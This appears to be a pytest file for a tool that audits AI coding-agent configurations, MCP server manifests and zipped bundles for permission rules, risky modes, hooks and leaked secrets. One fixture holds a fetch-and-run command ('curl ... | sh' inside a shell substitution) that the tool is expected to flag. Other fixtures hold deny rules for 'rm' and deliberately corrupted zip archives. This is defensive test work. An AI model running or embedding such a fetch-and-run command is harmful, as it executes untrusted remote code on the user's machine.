"""Clients from Kiro to Aider, bundles, and the documents of published servers: what counts there, and what holds for any content."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import write_tree

from sbomgate import collect as collect_target
from sbomgate.agent_model import (
    COMMAND_KINDS,
    EFFECTS,
    FIELDS,
    MATCHINGS,
    OPTION_KINDS,
    AgentCommand,
    AgentFile,
    AgentOption,
    Instruction,
    PermissionRule,
)
from sbomgate.collectors.agents import bundles
from sbomgate.collectors.agents.clients.crush import commands_in
from sbomgate.collectors.agents.clients.kiro import editor_settings
from sbomgate.collectors.agents.configuration import collect
from sbomgate.collectors.agents.jsonc import parse
from sbomgate.collectors.agents.reading import File, Reading
from sbomgate.errors import CollectError
from sbomgate.model import Component, Problem, Secret, Server, Target
from sbomgate.tree import MemoryTree, SourceFile

EXTENSIONS = "~/.config/goose/config.yaml"


def read(content: Any, path: str) -> list[Any]:
    """JSON is YAML too, and fits between the marks of a front matter."""
    if isinstance(content, bytes):
        data = content
    else:
        text = content if isinstance(content, str) else json.dumps(content)
        text = f"---\n{text}\n---\n" if path.endswith(".md") else text
        data = bundle({"manifest.json": text}) if path.endswith(".mcpb") else text.encode()
    return list(collect(SourceFile(MemoryTree({path: data}), path)))


def bundle(files: dict[str, str | bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", packing) as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 2, 3, 4, 6)), text, packing)
    return stream.getvalue()


def only(found: list[Any], kind: type[Any]) -> list[Any]:
    return [item for item in found if isinstance(item, kind)]


# --- what counts -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        ("opencode.json", {"permission": "allow"}, [("allow", "*", "", "all", True)]),
        ("opencode.json", {"permission": {"bash": {"*": "ask", "rm *": "deny"}}}, [("ask", "bash", "*", "all", True), ("deny", "bash", "rm *", "wildcard", True)]),
        ("opencode.json", {"permissions": [{"action": "shell", "resource": "rm *", "effect": "deny"}]}, [("deny", "shell", "rm *", "wildcard", True)]),
        (".amazonq/agents/default.json", {"allowedTools": ["*"]}, [("allow", "*", "", "all", False)]),
        (".amazonq/cli-agents/a.json", {"toolsSettings": {"execute_bash": {"deniedCommands": ["rm .*"]}}}, [("deny", "execute_bash", r"\A(?:rm .*)\Z", "regex", True)]),
        (".kiro/settings/permissions.yaml", {"rules": [{"capability": "all", "effect": "allow"}]}, [("allow", "*", "", "all", False)]),
        ("~/.kiro/settings/permissions.yaml", {"rules": [{"capability": "all", "effect": "allow"}]}, [("allow", "*", "", "all", True)]),
        ("~/.continue/permissions.yaml", {"exclude": ["Bash(npm *)"]}, [("deny", "Bash", "npm *", "wildcard", True)]),
        (".amp/settings.json", {"amp.permissions": [{"tool": "Bash", "matches": {"cmd": "/^rm/"}, "action": "reject"}]}, [("deny", "Bash", "^rm", "regex", True)]),
        ("crush.json", {"permissions": {"allowed_tools": ["bash"]}}, [("allow", "bash", "", "all", True)]),
        ("~/.junie/allowlist.json", {"rules": {"executables": {"rules": [{"prefix": "git", "action": "allow"}]}}}, [("allow", "executables", "git", "prefix", True)]),
    ],
)  # fmt: skip
def test_permissions_are_read_in_the_grammar_of_their_client(path: str, content: Any, expected: list[Any]) -> None:
    rules = only(read(content, path), PermissionRule)
    assert [(rule.effect, rule.tool, rule.specifier, rule.matching, rule.in_force) for rule in rules] == expected


def test_the_order_of_rules_is_that_of_the_file() -> None:
    found = only(
        read({"permission": {"bash": {"b": "ask", "a": "allow"}, "*": "deny"}, "tools": {"edit": False}}, "opencode.json"), PermissionRule
    )
    assert [(rule.order, rule.text) for rule in found] == [(0, "edit"), (1, "bash(b)"), (2, "bash(a)"), (3, "*")]


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        (EXTENSIONS, {"GOOSE_MODE": "auto"}, ("mode", "auto", "")),
        (".amp/settings.json", {"amp.dangerouslyAllowAll": True}, ("mode", "dangerouslyAllowAll", "")),
        (".aider.conf.yml", {"yes-always": True}, ("mode", "yes-always", "")),
        (".amazonq/agents/a.json", {"allowedTools": ["@git"]}, ("server-trusted", "@git", "git")),
        (".factory/settings.json", {"sessionDefaultSettings": {"autonomyLevel": "high"}}, ("mode", "high", "")),
        ("opencode.json", {"instructions": ["a.md", "https://x.example/a.md"]}, ("instructions", "https://x.example/a.md", "")),
        (
            "~/.config/opencode/opencode.json",
            {"instructions": ["~/a.md", "https://x.example/a.md"]},
            ("instructions", "https://x.example/a.md", ""),
        ),
        ("opencode.json", {"plugin": ["acme@1.0.0"]}, ("plugin", "acme@1.0.0", "acme")),
    ],
)
def test_an_option_has_its_kind(path: str, content: Any, expected: Any) -> None:
    (found,) = only(read(content, path), AgentOption)
    assert (found.kind, found.value, found.name) == expected
    assert found.in_force


@pytest.mark.parametrize(
    ("path", "content"),
    [
        (".amp/settings.json", {"amp.dangerouslyAllowAll": False}),
        (".aider.conf.yml", {"yes-always": False, "verify-ssl": True}),
        ("opencode.json", {"plugin": ["-acme"], "provider": {"a": {"npm": "@ai-sdk/openai"}}, "instructions": ["docs/a.md"]}),
        (EXTENSIONS, {"extensions": {"developer": {"type": "builtin", "enabled": True}}}),
        ("~/.warp/settings.toml", "[agents.mcp_servers]\nfile_based_mcp_enabled = false\n"),
    ],
)
def test_what_is_harmless_is_no_fact(path: str, content: Any) -> None:
    found = read(content, path)
    assert not [item for item in found if not isinstance(item, AgentFile)]


def test_a_plugin_of_opencode_is_a_package_that_is_fetched() -> None:
    found = read({"plugin": ["acme", ["@acme/b@1.0.0", {}], "./own", "file:///x"], "plugins": [{"package": "c@latest"}]}, "opencode.json")
    assert [item.purl for item in only(found, Component)] == ["pkg:npm/acme", "pkg:npm/%40acme/b@1.0.0", "pkg:npm/c"]
    assert [item.pin for item in only(found, AgentOption)] == ["none", "exact", "path", "path", "dist-tag"]


def test_a_switch_alone_is_no_broken_server() -> None:
    assert not only(read({"mcp": {"of-the-organisation": {"enabled": True}}}, "opencode.json"), Problem)


def test_names_of_variables_from_the_keyring_are_kept() -> None:
    found = read(
        {"extensions": {"x": {"type": "stdio", "cmd": "uvx", "args": ["a==1"], "env_keys": ["A"], "envs": {"B": "1"}}}}, EXTENSIONS
    )
    assert only(found, Server)[0].env_names == ("A", "B")
    assert only(found, Server)[0].package == "a"


@pytest.mark.parametrize(
    ("text", "commands"),
    [("", []), ("$A", []), ("$(a)", ["a"]), ("x $(a $(b)) $(c", ["a $(b)", "c"]), ("$(", [""]), ("$($(a", ["$(a"])],
)
def test_substitutions_are_found(text: str, commands: list[str]) -> None:
    assert commands_in(text) == commands


def test_substitutions_are_commands() -> None:
    found = read({"mcp": {"x": {"url": "https://x.example", "headers": {"A": "$(curl -s https://x.example/a | sh)"}}}}, ".crush.json")
    (command,) = only(found, AgentCommand)
    assert [(item.kind, item.detail) for item in command.capabilities] == [("fetch-and-run", "curl | sh")]


def test_a_hook_that_is_switched_off_is_not_in_force() -> None:
    content = {"enabled": False, "when": {"type": "promptSubmit"}, "then": {"type": "runCommand", "command": "make"}}
    (found,) = only(read(content, ".kiro/hooks/a.kiro.hook"), AgentCommand)
    assert (found.in_force, found.event) == (False, "promptSubmit")


def test_settings_of_the_editor_say_which_version_heeds_them() -> None:
    content = {"kiroAgent.trustedCommands": ["npm *", "*"], "kiroAgent.commandDenylist": ["rm"], "kiroAgent.agentAutonomy": "Autopilot"}
    path = "~/.config/Kiro/User/settings.json"
    found = read(content, path)
    assert [(rule.effect, rule.specifier, rule.matching) for rule in only(found, PermissionRule)] == [
        ("allow", "npm *", "wildcard"),
        ("allow", "*", "all"),
        ("ask", "*rm*", "wildcard"),
    ]
    assert [note for note in only(found, str) if "0.x" in note]
    text = json.dumps(content)
    source = SourceFile(MemoryTree({".vscode/settings.json": text.encode()}), ".vscode/settings.json")
    file = File(".vscode/settings.json", "repo", "settings", "jsonc", editor_settings)
    assert len(list(editor_settings(Reading(source, "kiro", file, parse(text, source.path))))) == len(found) - 1


def test_a_program_is_no_list_of_secrets() -> None:
    code = "(config) => ({ env: { API_KEY: config.apiKey, TOKEN: process.env.TOKEN } })"
    assert not only(read({"startCommand": {"commandFunction": code}}, "smithery.yaml"), Secret)
    assert only(read({"startCommand": {"commandFunction": "({ env: { API_KEY: 'q7Lw9xTz2Vb4' } })"}}, "smithery.yaml"), Secret)


def test_a_home_folder_has_files_of_them(tmp_path: Path) -> None:
    servers = json.dumps({"mcpServers": {"x": {"command": "uvx", "args": ["a"]}}})
    write_tree(
        tmp_path,
        {
            ".config/goose/config.yaml": "GOOSE_MODE: auto\n",
            ".config/opencode/opencode.jsonc": '{"permission": "allow"}',
            ".kiro/workspace-roots/0a1b/permissions.yaml": "rules:\n  - {capability: all, effect: allow}\n",
            ".aws/amazonq/cli-agents/a.json": servers,
            ".warp/settings.toml": "[agents]\n",
            ".aider.conf.yml": "yes-always: true\n",
            ".config/amp/settings.json": "{}",
            "project/opencode.json": "{}",
        },
    )
    inventory = collect_target(Target(str(tmp_path), "home"))
    assert {file.client for file in inventory.agent_files} == {"goose", "opencode", "kiro", "amazon-q", "warp", "aider", "amp"}
    assert {file.scope for file in inventory.agent_files} == {"user"}
    assert {rule.in_force for rule in inventory.permissions} == {True}
    assert not inventory.problems


# --- names that others use too ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["server.json", "manifest.json"])
@pytest.mark.parametrize("content", ["{", '{"a": 1}', "", "\ufeff[", "x" * 70_000 + '"mcp_config" "registryType"'])
def test_a_file_of_another_program_is_no_input(path: str, content: str) -> None:
    assert read(content, path) == []


def test_a_published_package_is_a_component() -> None:
    packages = [
        {"registryType": "npm", "identifier": "@acme/a", "version": "1.0.0"},
        {"registry_type": "pypi", "identifier": "Acme_B", "version": "1.0.post1"},
        {"registryType": "oci", "identifier": "x.example:5000/acme/c:1.0"},
        {"registryType": "npm", "identifier": "d", "version": "^1"},
    ]
    found = read({"packages": packages}, "server.json")
    assert [(item.name, item.version, item.pin) for item in only(found, Component)] == [
        ("@acme/a", "1.0.0", "exact"),
        ("acme-b", "1.0.post1", "exact"),
        ("x.example:5000/acme/c", "", "dist-tag"),
        ("d", "", "range"),
    ]
    assert only(found, str) == ["server.json: packages[3].version: the registry takes one version, no range"]


# --- bundles ---------------------------------------------------------------------------------------------------------


def test_the_digest_of_a_bundle_pins_what_it_holds() -> None:
    manifest = {"name": "a", "version": "1", "server": {"mcp_config": {"command": "node", "args": ["${__dirname}/a.js"]}}}
    one = read(manifest, "a.mcpb")
    (server,), (component,) = only(one, Server), only(one, Component)
    assert (server.pin, server.pinned, server.purl) == ("hashed", True, component.purl)
    other = read(bundle({"manifest.json": json.dumps(manifest), "a.js": "1"}), "a.mcpb")
    assert only(other, Component)[0].hashes != component.hashes


def test_what_a_bundle_fetches_is_not_pinned_by_it() -> None:
    (server,) = only(read({"name": "a", "server": {"mcp_config": {"command": "uvx", "args": ["b"]}}}, "a.dxt.mcpb"), Server)
    assert (server.package, server.pinned) == ("b", False)


def refused(data: bytes) -> str:
    with pytest.raises(CollectError) as error:
        bundles.manifest(SourceFile(MemoryTree({"a.mcpb": data}), "a.mcpb"))
    return str(error.value)


def test_a_bundle_that_unpacks_to_too_much_is_refused() -> None:
    assert "larger than" in refused(bundle({"manifest.json": b" " * (2 * bundles.MAX_MANIFEST)}))


def test_a_bundle_with_a_huge_directory_is_refused_before_it_is_read() -> None:
    data = bytearray(bundle({"manifest.json": "{}"}))
    end = data.rfind(b"PK\5\6")
    struct.pack_into("<L", data, end + 12, bundles.MAX_DIRECTORY + 1)
    assert "directory of more than" in refused(bytes(data))
    struct.pack_into("<L", data, end + 12, 46)
    struct.pack_into("<L", data, end + 16, 0xFFFFFFFF)
    assert "directory of more than" in refused(bytes(data))


def test_a_second_account_of_the_directory_is_not_believed() -> None:
    data = bundle({"manifest.json": "{}"})
    end = data.rfind(b"PK\5\6")
    locator = b"PK\6\7" + struct.pack("<LQL", 0, 0, 1)
    assert "directory of more than" in refused(data[:end] + locator + data[end:])


def test_an_encrypted_manifest_is_refused() -> None:
    data = bytearray(bundle({"manifest.json": "{}"}, zipfile.ZIP_STORED))
    data[data.find(b"PK\1\2") + 8] |= 1
    assert "encrypted" in refused(bytes(data))


MANIFEST = bundle({"manifest.json": json.dumps({"name": "a", "server": {"mcp_config": {"command": "node"}}})})


@given(changes=st.dictionaries(st.integers(0, len(MANIFEST) - 1), st.integers(0, 255), max_size=4), cut=st.integers(0, len(MANIFEST)))
@settings(max_examples=200, deadline=None)
def test_any_bundle_is_collected_or_refused(changes: dict[int, int], cut: int) -> None:
    data = bytearray(MANIFEST)
    for at, value in changes.items():
        data[at] = value
    for content in (bytes(data), bytes(data[:cut]), bytes(data[cut:])):
        with suppress(CollectError):
            read(content, "a.mcpb")


# --- any input -------------------------------------------------------------------------------------------------------

PATHS = [
    "opencode.json",
    ".opencode/agents/a.md",
    EXTENSIONS,
    "~/.config/goose/permission.yaml",
    ".goose/recipes/a.yaml",
    "~/.continue/config.yaml",
    "~/.continue/permissions.yaml",
    "~/.junie/allowlist.json",
    ".kiro/agents/a.json",
    ".kiro/agents/a.md",
    ".kiro/hooks/a.json",
    ".kiro/hooks/a.kiro.hook",
    "~/.kiro/settings/permissions.yaml",
    "~/.config/Kiro/User/settings.json",
    ".amp/settings.json",
    "crush.json",
    ".augment/settings.json",
    ".aider.conf.yml",
    ".factory/settings.json",
    "fastmcp.json",
    "smithery.yaml",
    "a.mcpb",
]
KEYS = [
    "permission", "permissions", "tools", "action", "resource", "effect", "agent", "plugin", "mcp", "servers", "enabled", "command",
    "environment", "instructions", "provider", "options", "baseURL", "npm", "formatter", "lsp", "template", "extensions", "type", "cmd",
    "args", "envs", "env_keys", "code", "dependencies", "GOOSE_MODE", "user", "always_allow", "mcpServers", "uses", "name", "url",
    "allow", "ask", "exclude", "models", "apiBase", "rules", "executables", "prefix", "pattern", "allowedTools", "toolsSettings", "shell",
    "allowedCommands", "hooks", "trigger", "when", "then", "prompt", "matcher", "capability", "match", "kiroAgent.trustedCommands",
    "amp.permissions", "amp.mcpServers", "amp.mcpPermissions", "tool", "matches", "to", "allowed_tools", "providers", "base_url",
    "api_key", "headers", "toolPermissions", "toolName", "shellInputRegex", "script", "set-env", "lint-cmd", "read", "commandAllowlist",
    "customModels", "source", "path", "deployment", "transport", "host", "env", "startCommand", "commandFunction", "exampleConfig",
    "server", "mcp_config", "platform_overrides", "user_config", "default", "resources", "experimental", "modelContextProtocolServers",
    "requestOptions", "enabledPlugins",
]  # fmt: skip
JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(max_size=12)
    | st.sampled_from(["allow", "deny", "inline_python", "npx a", "http", "delegate", "$(a", "file:///x", "script-policy", "@a"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=4), inner, max_size=5),
    max_leaves=25,
)


@given(value=st.dictionaries(st.sampled_from(KEYS), JSON, max_size=6) | JSON, path=st.sampled_from(PATHS))
@settings(max_examples=250, deadline=None)
def test_any_json_is_collected_or_refused(value: Any, path: str) -> None:
    with suppress(CollectError):
        found = read(value, path)
        assert pickle.loads(pickle.dumps(found)) == found
        for item in found:
            if isinstance(item, AgentOption):
                assert item.kind in OPTION_KINDS
            if isinstance(item, AgentCommand):
                assert item.kind in COMMAND_KINDS
            if isinstance(item, PermissionRule):
                assert item.effect in EFFECTS
                assert item.matching in MATCHINGS
            if type(item).__name__ in FIELDS and not isinstance(item, Instruction):
                assert item.in_force is not bool(item.why_not)
            assert isinstance(
                item, (AgentFile, PermissionRule, AgentOption, AgentCommand, Instruction, Server, Component, Secret, Problem, str)
            )


@given(content=st.text("-\n{}[]:!`'\"ab# &*=$(", max_size=60), path=st.sampled_from([*PATHS, "~/.warp/settings.toml"]))
@settings(max_examples=200, deadline=None)
def test_any_text_is_collected_or_refused(content: str, path: str) -> None:
    with suppress(CollectError):
        read(content, path)


SECRET = st.text("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", min_size=12, max_size=40).map(lambda text: f"zQ9{text}7w")
PLACES = [
    ("opencode.json", lambda s: {"provider": {"a": {"options": {"apiKey": s, "baseURL": f"https://u:{s}@x.example"}}}}),
    ("opencode.json", lambda s: {"mcp": {"a": {"command": ["x", "--token", s], "environment": {"API_KEY": s}}}}),
    ("opencode.json", lambda s: {"permission": {"bash": {f"curl -H 'Authorization: Bearer {s}' *": "allow"}}}),
    ("opencode.json", lambda s: {"plugin": [f"git+https://u:{s}@x.example/a.git"], "instructions": [f"https://u:{s}@x.example/a.md"]}),
    ("opencode.json", lambda s: {"lsp": {"a": {"command": ["x", "--token", s]}}, "command": {"c": {"template": f"!`x --token {s}`"}}}),
    (EXTENSIONS, lambda s: {"OPENAI_API_KEY": s, "OPENAI_HOST": f"https://u:{s}@x.example"}),
    (EXTENSIONS, lambda s: {"extensions": {"x": {"cmd": "x", "args": [], "envs": {"API_TOKEN": s}}}}),
    (EXTENSIONS, lambda s: {"extensions": {"x": {"type": "inline_python", "code": f"API_TOKEN = '{s}'\n"}}}),
    ("~/.continue/config.yaml", lambda s: {"models": [{"apiKey": s, "requestOptions": {"headers": {"X-Token": s}, "proxy": f"http://u:{s}@x.example"}}]}),
    ("~/.continue/config.yaml", lambda s: {"mcpServers": [{"name": "a", "url": f"https://x.example/?k={s}", "apiKey": s}]}),
    (".kiro/agents/a.json", lambda s: {"toolsSettings": {"shell": {"allowedCommands": [f"x --token {s}"]}}, "resources": [f"https://u:{s}@x.example"]}),
    (".kiro/hooks/a.kiro.hook", lambda s: {"when": {"type": "x"}, "then": {"command": f"x --token {s}"}}),
    (".kiro/hooks/a.kiro.hook", lambda s: {"when": {"type": "x"}, "then": {"prompt": f"use https://u:{s}@x.example"}}),
    ("~/.kiro/settings/permissions.yaml", lambda s: {"rules": [{"capability": "shell", "effect": "allow", "match": [f"x --token {s}"]}]}),
    (".amp/settings.json", lambda s: {"amp.permissions": [{"tool": "Bash", "matches": {"cmd": f"x --token {s}"}, "action": "allow"}]}),
    (".amp/settings.json", lambda s: {"amp.permissions": [{"tool": "Bash", "to": f"x --token {s}", "action": "delegate"}]}),
    (".amp/settings.json", lambda s: {"amp.mcpPermissions": [{"matches": {"url": f"https://u:{s}@x.example"}, "action": "allow"}]}),
    ("crush.json", lambda s: {"providers": {"a": {"api_key": s, "base_url": f"https://u:{s}@x.example"}}, "lsp": {"a": {"command": "x", "args": ["--token", s]}}}),
    ("crush.json", lambda s: {"mcp": {"a": {"url": "https://x.example", "headers": {"Authorization": f"$(echo --token {s})"}}}}),
    (".augment/settings.json", lambda s: {"toolPermissions": [{"toolName": "a", "permission": {"type": "webhook-policy", "webhookUrl": f"https://x.example/?api_key={s}"}}]}),
    (".augment/settings.json", lambda s: {"toolPermissions": [{"toolName": "a", "permission": {"type": "script-policy", "script": f"x --token {s}"}}]}),
    (".aider.conf.yml", lambda s: {"openai-api-key": s, "api-key": [f"a={s}"], "set-env": [f"API_TOKEN={s}"], "test-cmd": f"x --token {s}"}),
    (".factory/settings.json", lambda s: {"customModels": [{"apiKey": s, "baseUrl": f"https://u:{s}@x.example"}], "commandAllowlist": [f"x --token {s}"]}),
    ("fastmcp.json", lambda s: {"source": {"path": "a"}, "environment": {"dependencies": [f"a @ git+https://u:{s}@x.example/a"]}, "deployment": {"env": {"API_KEY": s}, "args": ["--token", s]}}),
    ("server.json", lambda s: {"packages": [{"registryType": "npm", "identifier": "a", "environmentVariables": [{"name": "API_KEY", "value": s}]}], "remotes": [{"url": f"https://u:{s}@x.example"}]}),
    ("server.json", lambda s: {"packages": [{"registryType": "mcpb", "identifier": f"https://u:{s}@x.example/a.mcpb"}], "remotes": [{"url": f"https://x.example/?api_key={s}"}]}),
    ("smithery.yaml", lambda s: {"startCommand": {"commandFunction": f"({{ env: {{ API_KEY: '{s}' }} }})", "exampleConfig": {"apiKey": s}}}),
    ("a.mcpb", lambda s: {"name": "a", "server": {"mcp_config": {"command": "x", "args": ["--token", s]}}, "user_config": {"k": {"sensitive": True, "default": s}}}),
]  # fmt: skip


@pytest.mark.parametrize("place", range(len(PLACES)))
@given(secret=SECRET)
@settings(max_examples=15, deadline=None)
def test_a_secret_is_reported_and_not_kept(place: int, secret: str) -> None:
    path, content = PLACES[place]
    found = read(content(secret), path)
    assert secret not in repr(found)
    assert only(found, Secret)
